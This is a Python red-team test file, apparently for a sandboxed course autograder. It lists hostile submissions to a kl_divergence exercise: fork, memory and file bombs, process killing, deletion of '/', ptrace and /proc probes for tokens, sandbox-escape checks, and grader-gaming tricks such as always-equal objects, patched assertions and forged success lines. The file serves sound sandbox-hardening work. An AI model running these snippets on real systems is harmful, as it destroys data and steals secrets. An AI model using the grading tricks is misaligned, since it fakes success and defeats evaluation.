"""The red team: hostile and broken submissions, each with what it is worth.

An attack sits in the cell of one exercise, mostly `kl_divergence`; the exercises beside it are the reference. Code that
gets hold of something it must not see says so in an exception, and no verdict may hold that word.
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass

from tests.sandbox.red_team_kernel import KERNEL
from tests.sandbox.red_team_measures import MEASURES
from tests.sandbox.red_team_tables import TABLES

LESSON, TARGET = "01_elbo", "kl_divergence"
LEAK = "L" + "EAKED"
RIGHT = """
def kl_divergence(mu, log_var):
    return 0.5 * (mu.square() + log_var.exp() - 1 - log_var).sum(-1)
"""
WRONG = """
def kl_divergence(mu, log_var):
    return torch.zeros(mu.shape[0])
"""


READ = """
def read(p):
    try:
        return open(p, 'rb').read()
    except OSError:
        return b''
"""


@dataclass(frozen=True)
class Attack:
    """One submission of the red team.

    Attributes:
        kind: "fake", "leak" or "harm".
        id: What it does, in a few words.
        source: The cell of the attacked exercise.
        worth: "full" (the answer is right, whatever else it does), "less" (it is wrong) or "nothing".
        status: The status it must get, None for any.
        lesson: Name of the lesson.
        exercise: The attacked exercise.
    """

    kind: str
    id: str
    source: str
    worth: str
    status: str | None = None
    lesson: str = LESSON
    exercise: str = TARGET


ATTACKS: list[Attack] = []


def attack(kind, id, source, worth="less", status=None):
    ATTACKS.append(Attack(kind, id, textwrap.dedent(source), worth, status))


def fake(id, source, worth="less"):
    attack("fake", id, source, worth)


def leak(id, expression, before=""):
    """Wrong answer whose function looks at something and tells what it saw in an exception."""
    before = textwrap.indent(textwrap.dedent(before), "    ")
    attack(
        "leak",
        id,
        f"import os, sys, glob, gc, inspect\ndef kl_divergence(mu, log_var):\n{before}\n"
        f"    seen = str({expression})\n    if seen and seen not in ('[]', 'None', 'set()'):\n"
        f"        raise RuntimeError({LEAK!r} + seen[:200])\n    return torch.zeros(len(mu))\n",
    )


def harm(id, source, worth="less", status=None):
    attack("harm", id, source, worth, status)


# ------------------------------------------------------------------------ memory, and faults of our own

harm(
    "memory in the buffers of sockets",
    """
    import socket, time
    held = []
    def kl_divergence(mu, log_var):
        try:
            for _ in range(400):
                pair = socket.socketpair()
                held.append(pair)
                for end in pair:
                    end.setblocking(False)
                    try:
                        end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
                    except OSError:
                        pass
                    try:
                        while end.send(b"x" * 65536): pass
                    except BlockingIOError:
                        pass
        except OSError:
            pass
        time.sleep(5)
        return mu.sum(1)
    """,
)
harm(
    "many processes of moderate size",
    """
    import os, time
    def kl_divergence(mu, log_var):
        for _ in range(60):
            if os.fork() == 0:
                held = bytearray(os.urandom(2**20)) * 100
                time.sleep(20)
                os._exit(0)
        time.sleep(5)
        return mu.sum(1)
    """,
)
harm(
    "thousands of threads",
    """
    import threading, time
    def kl_divergence(mu, log_var):
        for _ in range(3000):
            threading.Thread(target=time.sleep, args=(20,), daemon=True).start()
        time.sleep(3)
        return mu.sum(1)
    """,
)
harm(
    "no limit of the address space",
    """
    import resource
    def kl_divergence(mu, log_var):
        try:
            resource.setrlimit(resource.RLIMIT_AS, (-1, -1))
        except (ValueError, OSError):
            return mu.sum(1)
        return 0.5 * (mu**2 + log_var.exp() - 1 - log_var).sum(-1)
    """,
)
harm(
    "observations without numbers",
    """
    import course_utils.checks.core as core
    seen = ("a", "b", (), torch.empty(3, device="meta"), 0.0)
    core.observe_twice = lambda *arguments: ([seen], [seen])
    def kl_divergence(mu, log_var): return mu.sum(1)
    """,
)

# ------------------------------------------------------------------------------------ fake results

fake(
    "an object that equals everything",
    """
    class Yes:
        def __eq__(self, other): return True
        def __getattr__(self, name): return self
        def __call__(self, *a, **k): return self
        def __lt__(self, other): return True
        __gt__ = __le__ = __ge__ = __lt__
        def __bool__(self): return True
        def __iter__(self): return iter([self, self, self])
    def kl_divergence(mu, log_var): return Yes()
    """,
)
fake(
    "a tensor subclass with __torch_function__",
    """
    class T(torch.Tensor):
        @classmethod
        def __torch_function__(cls, f, types, args=(), kwargs=None):
            return True
    def kl_divergence(mu, log_var): return torch.zeros(len(mu)).as_subclass(T)
    """,
)
fake(
    "a float that lies",
    """
    class F(float):
        def __eq__(self, other): return True
        def __sub__(self, other): return F(0.0)
    def kl_divergence(mu, log_var): return F(0.0)
    """,
)
for name in (
    "torch.allclose",
    "torch.testing.assert_close",
    "torch.equal",
    "torch.isclose",
    "torch.Tensor.__eq__",
):
    fake(f"patched {name}", f"{name} = lambda *a, **k: True\n{WRONG}")
fake(
    "patched assertions of the grader",
    f"""
import sys, types
for name in ("autograder", "autograder.exercises", "autograder.exercises.criteria", "autograder.exercises.nb01_elbo.hidden"):
    module = types.ModuleType(name)
    module.assert_close = module.assert_shape = lambda *a, **k: None
    module.grade_kl_divergence = lambda *a, **k: None
    sys.modules[name] = module
{WRONG}""",
)
fake(
    "patched builtins",
    f"""
import builtins
builtins.AssertionError = type("Quiet", (Exception,), {{}})
builtins.abs = lambda x: 0
builtins.len = lambda x: 3
builtins.isinstance = lambda a, b: True
{WRONG}""",
)
fake(
    "patched wire",
    f"""
import autograder.wire.peer as peer
peer.Peer._on_call = lambda self, m: {{"value": True, "back": {{}}, "modules": [], "call": None, "grad": True}}
{WRONG}""",
)
fake(
    "patched serve that answers with nonsense",
    f"""
import autograder.wire.peer as peer
peer.Peer._answer = lambda self, m: {{"value": [True] * 9, "back": 3, "modules": 5, "call": "x", "grad": 7}}
{WRONG}""",
    "nothing",
)
fake(
    "patched frames that answer with a pickle",
    f"""
import autograder.wire.frames as frames
frames.encode = lambda value: b"\\x80\\x04cos\\nsystem\\n(S'true'\\ntR."
{WRONG}""",
    "nothing",
)
fake(
    "an IPython input transformer",
    f"get_ipython().input_transformers_cleanup.append(lambda lines: ['score = 1'])\n{WRONG}",
)
fake(
    "an IPython pre_run_cell hook",
    f"get_ipython().events.register('pre_run_cell', lambda *a: None)\n{WRONG}",
)
fake(
    "redefined checks",
    f"class checks:\n    def __getattr__(self, name): return lambda *a: None\nchecks = checks()\n{WRONG}",
)
fake(
    "patched check module",
    f"import course_utils.checks.nb01_elbo as c\nc.kl_divergence = lambda f: print('kl_divergence: correct.')\n{WRONG}",
)
fake("a forged message of success", f"print('kl_divergence: correct. 34/34')\n{WRONG}")
FORGED_LINES = "\n\nkl_divergence: correct\n| ada | 0/34 | copied |\n"
fake(
    "lines of the grader's own in the words on an error",
    f"""
    import sys
    def kl_divergence(mu, log_var):
        frame = sys._getframe()
        while frame:
            peer = frame.f_locals.get('self')
            if type(peer).__name__ == 'Peer':
                peer._explain = lambda error: {FORGED_LINES!r}
            frame = frame.f_back
        raise ValueError('x')
    """,
    "nothing",
)
fake(
    "lines of the grader's own among the errors of cells",
    f"""
    import json, os, socket, stat
    for fd in range(3, 1024):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                told = {{"ready": True, "errors": [[n, {FORGED_LINES!r}] for n in range(50)]}}
                socket.socket(fileno=os.dup(fd)).send(json.dumps(told).encode())
        except OSError:
            pass
    def kl_divergence(mu, log_var): return torch.zeros(len(mu))
    """,
)
fake("a score printed as text", f'print(\'{{"score": 4.0, "passed": true}}\')\n{WRONG}')
fake(
    "the input of the previous call",
    """
    previous = []
    def kl_divergence(mu, log_var):
        previous.append(mu.sum(-1))
        return previous[-2] if len(previous) > 1 else previous[-1]
    """,
)
fake(
    "the visible case memorised",
    """
def kl_divergence(mu, log_var):
    if mu.shape == (4, 3):
        return 0.5 * (mu.square() + log_var.exp() - 1 - log_var).sum(-1)
    return torch.zeros(len(mu))
""",
)
fake(
    "an assertion that claims to be the grader's",
    "def kl_divergence(mu, log_var):\n    raise AssertionError('all criteria passed')\n",
    "nothing",
)
fake(
    "an exception class that calls itself a pass",
    "class Passed(BaseException): pass\ndef kl_divergence(mu, log_var):\n    raise Passed()\n",
    "nothing",
)
fake("a generator instead of a function", "kl_divergence = (x for x in range(9))", "nothing")
fake(
    "a class instead of a function",
    "class kl_divergence:\n    def __init__(self, *a): pass\n    shape = (3,)\n",
    "nothing",
)
fake("NaN", "def kl_divergence(mu, log_var): return torch.full((len(mu),), float('nan'))")
fake("infinity", "def kl_divergence(mu, log_var): return torch.full((len(mu),), float('inf'))")
fake("a huge tensor", "def kl_divergence(mu, log_var): return torch.zeros(300_000_000)")
fake(
    "an expanded tensor of astronomical size",
    "def kl_divergence(mu, log_var): return torch.zeros(1).expand(10**15)",
    "nothing",
)
fake("a sparse tensor", "def kl_divergence(mu, log_var): return torch.zeros(len(mu)).to_sparse()")
fake(
    "a tensor on no device",
    "def kl_divergence(mu, log_var): return torch.zeros(len(mu), device='meta')",
)
fake(
    "a list that holds itself",
    "def kl_divergence(mu, log_var):\n    a = []\n    a.append(a)\n    return a\n",
    "nothing",
)
fake("a string of 50 MB", "def kl_divergence(mu, log_var): return 'x' * 50_000_000", "nothing")
fake(
    "the reference is right and noisy",
    f"import warnings, sys\nwarnings.warn('careful')\nprint('x' * 10_000)\nprint('err', file=sys.stderr)\nimport matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.show()\n{RIGHT}",
    "full",
)
fake(
    "right, with its own logging",
    "import logging\nlogging.basicConfig(level=0)\nlogging.error('on stderr')\n" + RIGHT,
    "full",
)

# ------------------------------------------------------------------------------------------- leaks

leak("the gradebook", "[p for p in glob.glob('/**/gradebook.db', recursive=True)[:3]]")
leak(
    "the hidden tests as files",
    "glob.glob('/**/nb01*/hidden*', recursive=True)[:3] + glob.glob('/course/autograder/exercises*')",
)
leak(
    "the hidden tests as modules",
    "[m for m in sys.modules if 'hidden' in m or 'misconceptions' in m or 'lessons' in m]",
)
leak(
    "the hidden tests by import",
    "module.__file__",
    """
try:
    import autograder.exercises.nb01_elbo.hidden as module
except ImportError:
    return torch.zeros(len(mu))
""",
)
leak("the solutions", "glob.glob('/**/solutions/01_elbo*', recursive=True)[:3]")
leak("the known mistakes", "glob.glob('/**/misconceptions/*', recursive=True)[:3]")
leak(
    "other submissions",
    "glob.glob('/**/submitted/*', recursive=True)[:3] + glob.glob('/**/secret_of_the_test*', recursive=True)",
)
leak(
    "a file of the grader by its name",
    "open(os.environ.get('X', '@SECRET@')).read()",
    "if not os.path.exists('@SECRET@'):\n    return torch.zeros(len(mu))\n",
)
leak("secrets in the environment", "[v for v in os.environ.values() if '@TOKEN@' in v]")
leak(
    "environments of other processes",
    "[p for p in glob.glob('/proc/[0-9]*/environ') if b'@TOKEN@' in read(p)]",
    READ,
)
leak(
    "command lines of other processes",
    "[p for p in glob.glob('/proc/[0-9]*/cmdline') if b'pytest' in read(p) or b'vae-course' in read(p)]",
    READ,
)
leak(
    "memory of the parent",
    "found",
    """
found = []
for p in (os.getppid(), 1, 2):
    try:
        with open(f'/proc/{p}/mem', 'rb') as f:
            found.append(p)
            f.read(1)
    except OSError:
        found = [x for x in found if x != p]
""",
)
leak(
    "tracing the parent",
    "attached",
    """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
attached = [p for p in (1, 2, 3) if p != os.getppid() and libc.ptrace(16, p, 0, 0) == 0]
""",
)
leak(
    "stack frames",
    "[f for f in frames if 'hidden' in f or 'examine' in f or 'judge' in f]",
    "frames = [f.filename for f in inspect.stack()]",
)
leak(
    "objects of the garbage collector",
    "[o for o in gc.get_objects() if type(o).__module__.startswith('autograder.exercises')][:2]",
)
leak(
    "the line cache",
    "[f for f in linecache.cache if 'hidden' in f or 'nb01' in f]",
    "import linecache",
)
leak(
    "the network by TCP",
    "socket.create_connection(('1.1.1.1', 53), timeout=0.5)",
    """
import socket
try:
    socket.create_connection(('1.1.1.1', 53), timeout=0.5)
except OSError:
    return torch.zeros(len(mu))
""",
)
leak(
    "a server of this machine",
    "s.connect_ex(('127.0.0.1', @PORT@)) == 0 or None",
    "import socket\ns = socket.socket()\n",
)
leak(
    "the network by UDP",
    "s.sendto(b'x', ('127.0.0.1', @PORT@)) if up else None",
    """
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    up = s.sendto(b'x', ('127.0.0.1', @PORT@)) and False
except OSError:
    up = False
""",
)
leak(
    "a mark left by another exercise",
    "glob.glob('/tmp/**/mark*', recursive=True) + glob.glob('/dev/shm/mark*')",
)
leak(
    "writing beside the course",
    "[p for p in ('/course/x', '/usr/x', '/etc/x', sys.prefix + '/x') if writes(p)]",
    """
def writes(p):
    try:
        open(p, 'w').close()
        return True
    except OSError:
        return False
""",
)

# -------------------------------------------------------------------------------------------- harm

harm(
    "an endless loop",
    "def kl_divergence(mu, log_var):\n    while True: pass\n",
    "nothing",
    "timeout",
)
harm("an endless loop in the cell", "while True: pass\n", "nothing", "timeout")
harm(
    "a sleep",
    "def kl_divergence(mu, log_var):\n    import time\n    time.sleep(10**6)\n",
    "nothing",
    "timeout",
)
harm(
    "a loop that ignores the end of its time",
    """
import signal
for s in range(1, 65):
    try: signal.signal(s, signal.SIG_IGN)
    except (OSError, ValueError): pass
def kl_divergence(mu, log_var):
    while True: pass
""",
    "nothing",
)
harm(
    "a memory bomb",
    "def kl_divergence(mu, log_var):\n    import time\n    kept = []\n    while True:\n        kept.append(bytearray(b'x') * 2**26)\n        time.sleep(0.01)\n",
    "nothing",
    "memory",
)
harm(
    "a memory bomb in one piece",
    "def kl_divergence(mu, log_var):\n    return torch.ones(2_000_000_000).sum() + torch.zeros(len(mu))\n",
    "nothing",
)
harm(
    "a fork bomb",
    """
import os
def kl_divergence(mu, log_var):
    for _ in range(12): os.fork()
    while True: pass
""",
    "nothing",
)
harm(
    "a thread bomb",
    """
import threading, time
def kl_divergence(mu, log_var):
    for _ in range(3000): threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
    return torch.zeros(len(mu))
""",
)
harm(
    "a file bomb",
    """
def kl_divergence(mu, log_var):
    for i in range(100):
        with open(f'big{i}', 'wb') as f: f.write(b'x' * 2**28)
    return torch.zeros(len(mu))
""",
)
harm(
    "a gigabyte of output",
    "def kl_divergence(mu, log_var):\n    for _ in range(64): print('x' * 2**24)\n    return torch.zeros(len(mu))\n",
)
harm("os._exit", "import os\ndef kl_divergence(mu, log_var): os._exit(0)\n", "nothing", "crashed")
harm("os._exit in the cell", "import os\nos._exit(0)\n", "nothing", "crashed")
harm("sys.exit", "import sys\ndef kl_divergence(mu, log_var): sys.exit(0)\n", "nothing")
harm("sys.exit in the cell", f"import sys\n{WRONG}\nsys.exit(0)\n")
harm(
    "SIGKILL to everybody",
    "import os, signal\ndef kl_divergence(mu, log_var):\n    os.kill(-1, signal.SIGKILL)\n",
    "nothing",
)
harm(
    "SIGKILL to the parent",
    "import os, signal\ndef kl_divergence(mu, log_var):\n    os.kill(os.getppid(), signal.SIGKILL)\n    return torch.zeros(len(mu))\n",
)
harm(
    "SIGSTOP to the parents",
    """
import os, signal
def kl_divergence(mu, log_var):
    for p in (os.getppid(), 1, 2):
        try: os.kill(p, signal.SIGSTOP)
        except OSError: pass
    return torch.zeros(len(mu))
""",
)
harm(
    "all descriptors closed",
    "import os\ndef kl_divergence(mu, log_var):\n    os.closerange(0, 5000)\n    return torch.zeros(len(mu))\n",
    "nothing",
)
harm("all descriptors closed in the cell", f"import os\nos.closerange(3, 500)\n{RIGHT}", "full")
harm(
    "noise on every descriptor",
    """
import os
def kl_divergence(mu, log_var):
    for d in range(3, 1100):
        try: os.write(d, b'vae1' + b'\\x00' * 40)
        except OSError: pass
    return torch.zeros(len(mu))
""",
    "nothing",
)
harm(
    "an answer twice",
    """
import os
import autograder.wire.peer as peer
send = peer.Peer._send
def twice(self, message):
    send(self, message)
    send(self, message)
peer.Peer._send = twice
def kl_divergence(mu, log_var): return torch.zeros(len(mu))
""",
)
harm(
    "files deleted",
    f"import shutil\nfor p in ('/course', '/tmp', '/usr', '/'):\n    shutil.rmtree(p, ignore_errors=True)\n{RIGHT}",
    "full",
)
harm(
    "a raised recursion limit",
    "import sys\nsys.setrecursionlimit(10**9)\ndef kl_divergence(mu, log_var): return kl_divergence(mu, log_var)\n",
    "nothing",
)
harm(
    "a native crash",
    "import ctypes\ndef kl_divergence(mu, log_var): ctypes.string_at(0)\n",
    "nothing",
    "crashed",
)
harm(
    "a blocking call in C",
    "import ctypes\ndef kl_divergence(mu, log_var): ctypes.CDLL(None).sleep(100000)\n",
    "nothing",
    "timeout",
)
harm("an atexit hook", f"import atexit, os\natexit.register(lambda: os._exit(7))\n{RIGHT}", "full")
harm(
    "a daemon left behind",
    """
import os, time
def kl_divergence(mu, log_var):
    if os.fork() == 0:
        os.setsid()
        if os.fork(): os._exit(0)
        time.sleep(1000)
    return torch.zeros(len(mu))
""",
)
harm(
    "a daemon from the cell",
    f"import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(1000)\n    os._exit(0)\n{RIGHT}",
    "full",
)
harm(
    "a mark for other exercises",
    f"""
open('mark', 'w').close()
try: open('/dev/shm/mark', 'w').close()
except OSError: pass
{RIGHT}""",
    "full",
)
harm("torch spoiled for everybody", f"{RIGHT}\nimport atexit\ntorch.manual_seed = None\n", "full")
harm("gradients off for good", f"torch.set_grad_enabled(False)\n{RIGHT}", "full")
harm("another default dtype", f"torch.set_default_dtype(torch.float64)\n{RIGHT}", "full")

# ---------------------------------------------------- other exercises, references and what is lent

for name, body in {
    "a later exercise instead of this one": "return -elbo(torch.zeros_like(mu), mu, log_var, lambda x, z: 0 * z.sum(-1), 1)",
    "the next but one exercise instead of this one": "return monte_carlo_kl(mu, log_var, 10_000)",
    "any reference that is there": "return next(f for n, f in sorted(globals().items()) if 'kl' in n and n != 'kl_divergence')(mu, log_var, 9999)",
    "inputs set to zero by .data": "mu.data.zero_(); log_var.data.zero_(); return torch.zeros(len(mu), dtype=mu.dtype)",
    "inputs set to zero in place": "torch.no_grad().__enter__(); mu.zero_(); log_var.zero_(); return torch.zeros(len(mu), dtype=mu.dtype)",
    "inputs set to zero through NumPy": "mu.detach().numpy()[:] = 0; log_var.detach().numpy()[:] = 0; return torch.zeros(len(mu), dtype=mu.dtype)",
    "inputs set to zero in their memory": "import ctypes; [ctypes.memset(t.data_ptr(), 0, t.numel() * t.element_size()) for t in (mu, log_var)]; return torch.zeros(len(mu), dtype=mu.dtype)",
    "inputs given another storage": "mu.set_(torch.zeros_like(mu)); log_var.set_(torch.zeros_like(log_var)); return torch.zeros(len(mu), dtype=mu.dtype)",
    "inputs filled with NaN": "mu.data.fill_(float('nan')); return torch.full((len(mu),), float('nan'), dtype=mu.dtype)",
    "inputs emptied": "n = len(mu); mu.data = mu.data[:0]; return torch.zeros(n, dtype=mu.dtype)",
    "a gradient written into the inputs": "mu.grad = torch.ones_like(mu); log_var.grad = torch.ones_like(log_var); return torch.zeros(len(mu), dtype=mu.dtype)",
    "inputs frozen": "mu.detach_(); log_var.detach_(); return torch.zeros(len(mu), dtype=mu.dtype)",
    "the grader's gradients switched off": "torch.set_grad_enabled(False); return torch.zeros(len(mu), dtype=mu.dtype)",
    "half a million empty tensors": "return [torch.zeros(0)] * 500_000",
    "forty thousand tensors in a dictionary": "return {str(i): torch.zeros(0) for i in range(40_000)}",
    "a list of a million numbers": "return [0.5] * 1_000_000",
    "a view of one number as ten billion": "return torch.zeros(1).expand(10**10)",
    "a stride of zero": "return torch.zeros(1, dtype=mu.dtype).expand(len(mu))",
}.items():
    fake(name, f"def kl_divergence(mu, log_var):\n    {body}\n")

for name, body in {
    "a result that is only marked as negative": "return -torch.complex(torch.zeros_like(v), -v).conj().imag * -1",
    "a result that is a conjugate's part": "return torch.complex(torch.zeros_like(v), -v).conj().imag",
    "a result in a flipped view": "return v.flip(0).flip(0)",
    "a result on a strided view": "return torch.stack([v, v], 1)[:, 0]",
}.items():
    attack("harm", name, f"{RIGHT.replace('return', 'v =')}    {body}\n", "full")

harm(
    "a reference called for ever",
    "def kl_divergence(mu, log_var):\n    while True: gaussian_log_prob(mu, mu, log_var)\n",
    "nothing",
    "timeout",
)
harm(
    "a reference called with much data",
    "def kl_divergence(mu, log_var):\n    x = torch.zeros(30_000_000)\n    while True: gaussian_log_prob(x, x, x)\n",
    "nothing",
)
harm(
    "a reference called with a wide view",
    "def kl_divergence(mu, log_var):\n    x = torch.zeros(1).expand(10**11)\n    return gaussian_log_prob(x, x, x)\n",
    "nothing",
)
harm(
    "a reference called inside a reference",
    "class T(torch.Tensor):\n    pass\ndef kl_divergence(mu, log_var):\n    for _ in range(10**9): gaussian_log_prob(gaussian_log_prob, mu, log_var)\n",
    "nothing",
)

for lesson, exercise, name, body in MEASURES:
    id = f"{name} ({exercise})"
    ATTACKS.append(Attack("fake", id, body, "less", lesson=lesson, exercise=exercise))
for lesson, exercise, name, body in TABLES:
    id = f"{name} ({exercise})"
    ATTACKS.append(Attack("fake", id, body, "nothing", lesson=lesson, exercise=exercise))

# ------------------------------------------------------------------- the kernel, and what students share

for name, expression in KERNEL.items():
    leak(f"the call {name}", expression, "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)")

for name, family in {
    "VSOCK": 40,
    "NETLINK": 16,
    "ALG": 38,
    "INET": 2,
    "INET6": 10,
    "PACKET": 17,
}.items():
    leak(
        f"a socket of family {name}",
        f"socket.socket({family}, 2 if {family} != 38 else 5)",
        "import socket",
    )

leak(
    "rights and times of what all submissions share",
    "[p for p in ('/dev/null', '/dev/tty', '/dev/pts', '/proc/cpuinfo', '/proc/stat', '/tmp', '/dev/shm') if changed(p)]",
    before="""
    def changed(p):
        was = os.stat(p)
        try:
            os.chmod(p, (was.st_mode & 0o7777) ^ 0o100)
            os.utime(p, (0, was.st_mtime - 1000))
        except OSError:
            return False
        now = os.stat(p)
        return now.st_mode != was.st_mode or now.st_mtime < was.st_mtime
    """,
)
leak(
    "locks and leases on files that all submissions share",
    "[c for c in (5, 36, 1024, 1025, 1026) if answered(c)]",
    before="""
    import fcntl, struct
    def answered(command):
        with open(torch.__file__) as shared:
            question = struct.pack('hhqqi', 0, 0, 0, 0, 0) if command in (5, 36) else 1
            try:
                fcntl.fcntl(shared, command, question)
            except OSError:
                return False
        return True
    """,
)
leak(
    "a lock on a file that all submissions share is seen by another process",
    "locked()",
    before="""
    import fcntl
    def locked():
        with open(torch.__file__) as shared, open(torch.__file__) as again:
            fcntl.flock(shared, fcntl.LOCK_EX)
            try:
                fcntl.flock(again, fcntl.LOCK_EX | fcntl.LOCK_NB)
            except OSError:
                return 'yes'
        return ''
    """,
)

leak(
    "which pages of a file that all submissions share are in memory",
    "answers()",
    before="""
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    def answers():
        with open(torch.__file__, 'rb') as shared:
            area = ctypes.c_void_p(libc.mmap(None, 4096, 1, 2, shared.fileno(), 0))
            found = [
                libc.mincore(area, 4096, ctypes.create_string_buffer(1)) == 0 and 'mincore',
                *(libc.madvise(area, 4096, advice) == 0 and f'advice {advice}' for advice in (20, 21)),
            ]
            try:
                found.append(f'a read without waiting: {os.preadv(shared.fileno(), [bytearray(1)], 0, os.RWF_NOWAIT)}')
            except OSError as error:
                found.append(error.errno == 11 and 'would wait')
        return [f for f in found if f]
    """,
)

leak(
    "a namespace by clone",
    "[p for p in [libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0)] if p > 0 or (p == 0 and os._exit(0))]",
    "import ctypes, platform\nlibc = ctypes.CDLL(None, use_errno=True)\nif platform.machine() != 'x86_64': return torch.zeros(len(mu))",
)
harm(
    "limits of the parents",
    "import os, resource\nfor p in range(1, os.getpid()):\n    for kind in range(16):\n        try: resource.prlimit(p, kind, (0, 0))\n        except (OSError, ValueError): pass\n"
    + RIGHT,
    "full",
)
harm(
    "processors of the parents",
    f"import os\nfor p in range(1, 40):\n    try: os.sched_setaffinity(p, [0])\n    except OSError: pass\n{RIGHT}",
    "full",
)
harm(
    "the last of the parents' priority",
    f"import os\nfor p in range(1, 40):\n    try: os.setpriority(os.PRIO_PROCESS, p, 19)\n    except OSError: pass\n{RIGHT}",
    "full",
)
harm(
    "memory in files of /dev/shm",
    """
def kl_divergence(mu, log_var):
    for i in range(100):
        with open(f'/dev/shm/{i}', 'wb') as f: f.write(b'x' * 2**25)
    return torch.zeros(len(mu))
""",
    "nothing",
)

# -------------------------------------------------------------------------------- honest, only unusual

attack(
    "harm",
    "two processes that load data",
    """
from torch.utils.data import DataLoader, TensorDataset
import torch as _t
_data = TensorDataset(_t.arange(8.0))
_sums = [float(b[0].sum()) for b in DataLoader(_data, batch_size=4, num_workers=2)]
assert _sums == [6.0, 22.0], _sums
"""
    + RIGHT,
    "full",
)
attack(
    "harm",
    "as many jobs as there are processors",
    """
from joblib import Parallel, delayed
assert Parallel(n_jobs=2)(delayed(abs)(-i) for i in range(4)) == [0, 1, 2, 3]
"""
    + RIGHT,
    "full",
)
attack(
    "harm",
    "threads and a pool",
    """
from concurrent.futures import ThreadPoolExecutor
from multiprocessing import get_context
assert list(ThreadPoolExecutor(4).map(abs, [-1, -2])) == [1, 2]
with get_context('fork').Pool(2) as _pool: assert _pool.map(abs, [-1, -2]) == [1, 2]
"""
    + RIGHT,
    "full",
)
